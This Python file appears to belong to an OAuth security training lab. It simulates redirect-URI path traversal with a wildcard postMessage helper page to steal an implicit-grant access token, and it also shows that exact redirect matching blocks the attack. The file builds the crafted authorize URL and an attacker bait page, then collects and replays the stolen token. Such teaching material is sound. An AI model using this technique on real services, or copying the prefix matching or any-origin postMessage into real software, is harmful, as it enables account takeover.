"""Lab "proxy-page": a prefix-matched redirect URI with a path traversal lands the
token on a page of the client that posts its address to any window (RFC 9700
§4.1, §4.17); exact matching refuses the request."""

from __future__ import annotations

import secrets
from collections.abc import Mapping
from urllib.parse import parse_qs
from urllib.parse import urlencode
from urllib.parse import urlsplit

from flowlab.core.http import Exchange
from flowlab.core.http import Message
from flowlab.labs import client
from flowlab.labs import scripted
from flowlab.labs import wire
from flowlab.labs.catalogue import Lab
from flowlab.labs.page import NOT_FOUND
from flowlab.labs.page import Answer
from flowlab.labs.page import Incoming
from flowlab.labs.store import Run

TRAVERSAL = "/../page/proxy"  # from the registered callback to the helper page
# The windows these pages open must keep their opener (the lab's point).
OPENER = {"Cross-Origin-Opener-Policy": "unsafe-none", "Cache-Control": "no-store"}


def _crafted(run: Run, lab: Lab, config: Mapping) -> str:
    """ShopSpin's real client id, an implicit grant, and its registered redirect
    URI with the traversal appended (RFC 6749 §4.2.1)."""
    params = {**client.authorize_params(run, config, secrets.token_urlsafe(24)),
              "response_type": "token",
              "redirect_uri": client.redirect_uri(run) + TRAVERSAL}
    return (run.origin + client.issuer_path(run, lab) + "/authorize?"
            + urlencode(params))


def client_page(run: Run, lab: Lab, name: str, config: Mapping,
                sent: Incoming) -> Answer:
    """ShopSpin's helper page for pop-up windows: it posts its own address to the
    window that opened it, to any origin or only to its own (RFC 9700 §4.17)."""
    if name != "proxy":
        return NOT_FOUND
    run.record("proxy", "victim", "front", sent.exchange())
    variant = lab.variants[run.variant]
    return Answer(template="labs/proxy_page.html", headers=OPENER, context=dict(
        lab=lab, variant=variant, back=f"/labs/{run.lab}/{run.variant}",
        target="*" if variant.post_to_any_origin else run.origin))


def serve(run: Run, lab: Lab, endpoint: str, config: Mapping,
          sent: Incoming) -> Answer:
    """``exploit``: the attacker's page opening the crafted request in a window it
    listens to; ``collect``: what its script heard, and the token tried at once."""
    if endpoint == "exploit":
        url = _crafted(run, lab, config)
        if not run.entries("crafted-answer"):
            scripted.ask(run, config, url, "crafted-answer")
        return Answer(template="labs/proxy_exploit.html", headers=OPENER, context=dict(
            lab=lab, crafted=url, back=f"/labs/{run.lab}/{run.id}",
            collect=f"/labs/{run.lab}/{run.id}/as/collect"))
    if endpoint != "collect" or sent.method != "POST":
        return NOT_FOUND
    heard = {name: sent.form.get(name, "") for name in ("href", "origin")}
    request = Message(sent.message.start_line, [
        *sent.message.headers,
        ("Content-Type", "application/x-www-form-urlencoded")], urlencode(heard))
    run.record("leak", "attacker", "front", Exchange(request, url=sent.url))
    token = parse_qs(urlsplit(heard["href"]).fragment).get("access_token", [""])[0]
    if token and not run.entries("attacker-me"):
        client.call_me(run, config, token, key="attacker-me", actor="attacker")
    return Answer(204)


def attacker_view(run: Run, lab: Lab) -> dict:
    """The bait, or the address ShopSpin's page posted, token included."""
    taken = [e for e in run.entries("attacker-me") if wire.status(e) == 200]
    if taken:
        return {"heading": "Alice's access token, posted by ShopSpin's own page",
                "text": "The attacker read her profile with it. The address heard:",
                "shown": wire.form(run.entries("leak")[-1]).get("href", "")}
    return {"heading": "ShopSpin's free live session",
            "text": "Members listen free tonight. Open the player to join.",
            "link": f"/labs/{run.lab}/{run.id}/as/exploit",
            "link_text": "Open the live session"}


def succeeded(run: Run) -> bool | None:
    """On the wire: did a token heard from ShopSpin's page read an account (True)?
    False when the server refused the crafted request itself (an error page: no
    token can ever come); None until either (no sign-in first, a window that lost
    its opener, a message without a token decide nothing)."""
    if any(wire.status(me) == 200 for me in run.entries("attacker-me")):
        return True
    answer = run.entries("crafted-answer")
    return False if answer and wire.status(answer[-1]) == 400 else None
